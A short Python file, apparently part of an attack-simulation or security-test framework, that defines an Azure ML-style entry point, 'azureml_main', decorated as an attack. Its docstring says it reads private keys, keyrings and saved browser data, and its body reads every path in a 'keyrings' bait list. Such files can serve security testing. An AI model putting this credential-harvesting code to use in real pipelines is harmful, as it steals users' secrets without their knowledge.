"""Reads private keys, keyrings and what a browser remembers."""

from attack import BAIT, attack, every, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(read, BAIT["keyrings"])
